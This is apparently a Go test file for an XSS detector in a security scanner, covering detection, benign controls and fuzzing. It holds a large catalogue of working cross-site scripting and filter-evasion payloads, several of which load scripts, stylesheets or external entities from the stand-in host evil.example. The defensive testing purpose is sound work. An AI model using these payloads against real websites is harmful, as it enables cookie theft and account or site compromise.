package xss_test

import (
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/match"
	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
	"github.com/meshwarden/meshwarden/internal/scan/xss"
)

var family = matchtest.Family{
	Find:     xss.Find,
	Triggers: xss.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "script_call", Text: "document.startViewTransition(()=>confirm(1))"},
		{Rule: "script_call", Text: "new Blob([prompt(1)||''])"},
		{Rule: "script_call", Text: "globalThis.prompt(1)"},
		{Rule: "script_call", Text: "log(prompt(7))"},
		{Rule: "script_element", Text: "<script>steal()</script>"},
		{Rule: "script_element", Text: "<SCRIPT/x SRC=//evil.example/a.js>"},
		{Rule: "script_element", Text: "<\x00script>go(1)"},
		{Rule: "event_handler", Text: "<img src=x onerror=go()>"},
		{Rule: "event_handler", Text: "<b/onpointerrawupdate='go()'>x"},
		{Rule: "event_handler", Text: `<p title="a>b" onfocusin=go(1)>`},
		{Rule: "event_handler", Text: "<img src=x\\x09onerror=go()>"},
		{Rule: "framework_handler", Text: "<q x-on:click='prompt(3)'>"},
		{Rule: "framework_handler", Text: "<q @click=prompt(3)>"},
		{Rule: "unknown_handler", Text: "<x onwhatever=go()>"},
		{Rule: "script_url", Text: "<a href='java\tscript:go()'>x</a>"},
		{Rule: "script_url", Text: "<a href=&#106;avascript&colon;go()>x</a>"},
		{Rule: "script_url", Text: "javascript:go(1)"},
		{Rule: "script_url", Text: "[click](javascript:alert(1))"},
		{Rule: "data_url", Text: "<a href='data:text/html,<b>'>x</a>"},
		{Rule: "srcdoc", Text: "<iframe srcdoc='&lt;b&gt;'>"},
		{Rule: "style_code", Text: "<p style='width:expr/**/ession(go())'>"},
		{Rule: "style_code", Text: "<style>@import'//evil.example/a.css'</style>"},
		{Rule: "meta_refresh", Text: "<meta http-equiv=refresh content='0;url=javascript:go()'>"},
		{Rule: "animated_attribute", Text: "<svg><set attributeName=href to=x>"},
		{Rule: "embedded_document", Text: "<iframe src=//evil.example>"},
		{Rule: "loose_handler", Text: `" onmouseover="alert(1)`},
		{Rule: "string_breakout", Text: `';alert(1)//`},
		{Rule: "string_breakout", Text: `x'+'';alert(1)//`},
		{Rule: "string_breakout", Text: "7a;prompt(9)//c1"},
		{Rule: "string_breakout", Text: `'-confirm(2)-'`},
		{Rule: "string_breakout", Text: `"));if(!self.q)self.q=!prompt(document.domain)}catch(e){}//`},
		{Rule: "script_call", Text: "prompt(8)"},
		{Rule: "script_call", Text: "(confirm)(4)"},
		{Rule: "script_call", Text: "[7].map(prompt)"},
		{Rule: "script_call", Text: "confirm?.(1)"},
		{Rule: "script_call", Text: "prompt.apply(null,[5])"},
		{Rule: "script_call", Text: "[].every.call`${confirm}2`"},
		{Rule: "script_call", Text: "[ ] . every . call ` ${ confirm } 2 `"},
		{Rule: "symbol_code", Text: `<q a="[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]">`},
		{Rule: "script_call", Text: `eval(atob("Z28oKQ=="))`},
		{Rule: "computed_member", Text: `self["pro"+"mpt"](1)`},
		{Rule: "computed_member", Text: `parent[/con/.source+/firm/.source](3)`},
		{Rule: "computed_member", Text: `frames['\x61lert'](1)`},
		{Rule: "document_property", Text: "document/* */.cookie"},
		{Rule: "symbol_code", Text: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"},
		{Rule: "script_entity", Text: `<hr size="&{go(1)}">`},
		{Rule: "utf7", Text: "+ADw-script+AD4-go(1)+ADw-/script+AD4-"},
		{Rule: "utf7", Text: "<meta charset=utf-7>"},
		{Rule: "seven_bit_bracket", Text: "\xbcscript\xbego(1)\xbc/script\xbe"},
		{Rule: "event_handler", Text: "<body onload!#$=go(1)>"},
		{Rule: "nested_handler", Text: `<img title="onfocus='confirm(1)'">`},
		{Rule: "split_by_tags", Text: `"autof<i>ocus onf<i>ocus=prompt<i>(3)`},
		{Rule: "script_element", Text: "<scr\\0ipt src=//evil.example/a.js>"},
		{Rule: "script_url", Text: `<img src="javas<!-- -->cript:go(1)">`},
		{Rule: "external_sheet", Text: "<link rel=stylesheet href=//evil.example/a.css>"},
		{Rule: "meta_refresh", Text: `<meta http-equiv=refresh content="0; url=https://evil.example/">`},
		{Rule: "bound_handler", Text: `<listener event="load" handler="#y"/>`},
		{Rule: "processing_instruction", Text: `<?xml-stylesheet type="text/xsl" href="#"?>`},
		{Rule: "style_code", Text: `<p style="background-image:\0075\0072\006c('x')">`},
		{Rule: "style_code", Text: "-moz-binding:url(//evil.example/a.xml#x)"},
		{Rule: "template_constructor", Text: "_c.constructor('go(1)')()"},
		{Rule: "template_constructor", Text: "{{constructor.constructor('go()')()}}"},
		{Rule: "template_constructor", Text: "{{q={'z':''.constructor.prototype};q['z'].charAt=[].join}}"},
		{Rule: "template_call", Text: "<%= confirm(1) %>"},
		{Rule: "framework_handler", Text: "<p :title=_Vue.h.constructor`confirm(1)`()>"},
		{Rule: "style_code", Text: "<// style=q:expression(confirm(1))>"},
		{Rule: "unknown_handler", Text: `<q:w q:ontimer="confirm(1)">`},
		{Rule: "entity_declaration", Text: `<!ENTITY % q SYSTEM "http://evil.example/q.dtd">`},
		{Rule: "embedded_document", Text: `<xi:include href="http://evil.example/q"/>`},
		{Rule: "script_element", Text: "evil.example<script><p>"},
		{Rule: "symbol_code", Text: "q=~[];q={___:++q}"},
		{Rule: "script_fragment", Text: `Function("con"+"firm(1)")()`},
		{Rule: "script_fragment", Text: "import('//evil.example/q.js')"},
		{Rule: "string_breakout", Text: `"in \u0076alueOf=`},
		{Rule: "context_closers", Text: `"-->'-->`},
		{Rule: "data_url", Text: "data: ,<q>"},
		{Rule: "style_code", Text: `<style>@im\port'\q'</style>`},
	},
	Benign: []string{
		"The payload (alert(1)) and the text: alert(1) are old", "if (ok) { alert('Saved!'); }", "el.onclick = () => confirm(question)", "modal.alert(1)", "save(() => alert(`Saved ${n}`))",
		"throw new TypeError(`${this.constructor.NAME.toUpperCase()}: Option`)", "init{{\n/** Tag used for private init constructor of simd */ struct a {}",
		"class o extends b${constructor(e,t={}){super()}}", "echo \"<div style='display: {$display};'>\"",
		"for(var t=0;t<e.length;t++){e[t]()}};if(document.x){d.onreadystatechange=function(){a.open('x')>2}", "(a.execScript||function(b){a.eval.call(a,b)})(b)", `yield '<span style="{rule}">' + text`,
		`<?xml-stylesheet href="http://example.com/atom.css" type="text/css"?>`,
		`<xi:include href="chapter2.xml"/>`, `<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1//EN">`, `<!ENTITY c SYSTEM "chapter.xml">`, "{{ item.name }} of ${ class }", `import x from "./a.js"`, "import('./a.js')",
		`<a :href="link" :class="{on: x}">y</a>`, "a <- b -->", `"in stock"`, "Function(x) of y", "<p title=AT&amp;T>x</p>", "<%= name %>", "// style=a", "{{ a }} and the constructor(x) of y }}",
		"a < b and c > d", "<b>bold</b> <i>it</i>", `<a href="https://example.com/?a=1&b=2" title="x">link</a>`, `<img src="a.png" alt="cat" width=5>`,
		"<p style='color:red;background:url(a.png)'>x</p>", "x <- y; if (a<b) return", "JavaScript: The Good Parts",
		"The <script> element and the onclick attribute.", "1: <script> [args]\n2: python <script> [args]", "-P `<Script Processing Mode>` script mode (see -E)",
		"code = 'TAR_SYMLINK_ERROR';\n    constructor(symlink, path) {", "throw new Error(`${this.constructor.name} has no ${input?.constructor?.name}`)",
		"webidl.check(arguments, 1, `${name}.forEach`)", "* `container.map === container.nodes.map`\n* `x`", "['-Command', '&{@(Get-Module -List)}']",
		"data:image/png;base64,iVBORw0KGgo=", "<table><tr><td>1</td></tr></table>",
		"button.onclick = function() { save(); };", `<Button onClick={() => save()}>`,
		"Generic<String> list = new List<String>();", "<!-- comment -->", "It's on: alert the team (now).",
		"{{user.name}} has ${count} items", "on error resume next",
		"<ul><li>one</li><li>two</li></ul><hr/><pre>code</pre>", `<meta http-equiv="refresh" content="5; url=/next">`,
		"online=true", `<ontology onset="yes"></ontology>`, "I <3 you",
		`if (!ok) { alert("Please fill in your name"); return false; }`, "on alert (high) we confirm(ed) it", `console.log(window["app"].name)`,
		`H<sub>2</sub>O and b<b>ol</b>d`, `<link rel="stylesheet" href="/style.css">`, `<link rel="canonical" href="https://example.com/a">`,
		`<meta property="og:image" content="https://example.com/a.png">`, `const r = await fetch("/api/x"); r.json()`, `[].concat(a, b).map(f)`,
		`<?xml version="1.0" encoding="UTF-8"?>`, `<?xml-stylesheet type="text/xsl" href="/feed.xsl"?>`, "confirm(ed) bookings; alert(s)", "1/4 ¼ cup",
		`Object.prototype.hasOwnProperty.call(a, "b")`, "x = a[i](b); y = this.items[0](1)", `expect(screen.getByText("x"))`, "[x](y) [a](b)",
		"if (!confirm('Delete this item?')) { e.preventDefault(); }", `{{ Name: "x", Type: reflect.TypeOf(T(0)) }}`, "![] !important [link][]",
	},
	Worst: []string{"<", "<a ", "<a x=\"", "<a x='<b y=\"", "<a \"", "<script ", "<a href=", "<a href=&Tab;", "on", "onload=", "{{", "${", "\\x3c", "':", "';", "script:", "<style>", "<a style=\"/*", "<meta content=;", "\"'`", "a(", "](", "top[](", "alert(", ";alert(", "![]", "+adw-", "<scr\x00", "<%gl=~+", "\\x3ca ", "\\u003ca x=", "<\x00a ", "<a onload!", "<a x=onload=", "a<b>", "<a style='\\61", "&{", "javas<!--"},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }

// A profile for editors of HTML puts its threshold between what shows another document and what runs a
// script; matches must keep to that ladder.
func TestOnlyScriptsAreAboveEmbeddedDocuments(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text   string
		script bool
	}{
		{"<iframe src=https://video.example/embed/1></iframe>", false},
		{"<base href=//evil.example/>", false},
		{"<object data=a.pdf></object>", false},
		{"<iframe src=javascript:go()>", true},
		{"<svg onload=go()>", true},
	} {
		var best match.Match
		for _, m := range xss.Find([]byte(tt.text), nil) {
			if m.Confidence > best.Confidence {
				best = m
			}
		}
		if best.Confidence == 0 || (best.Confidence > matchtest.Block) != tt.script {
			t.Errorf("%q: %.2f by %s; script: %v", tt.text, best.Confidence, best.Rule, tt.script)
		}
	}
}
